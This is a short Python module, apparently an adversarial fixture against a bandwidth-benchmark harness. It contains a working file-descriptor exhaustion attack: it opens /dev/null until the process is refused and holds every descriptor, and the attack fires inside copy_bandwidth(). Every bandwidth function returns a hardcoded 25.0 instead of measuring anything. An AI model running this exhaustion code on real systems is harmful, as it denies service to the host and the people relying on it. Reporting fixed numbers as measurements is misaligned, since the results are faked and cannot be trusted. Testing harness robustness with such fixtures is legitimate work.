"""Attack: open files until the descriptor table is full, and keep them open."""
import os

ATTACK = True
OPEN = []


def exhaust(limit=1_000_000):
    """Open /dev/null until refused; how many were opened."""
    try:
        while len(OPEN) < limit:
            OPEN.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    return len(OPEN)


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        exhaust()
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

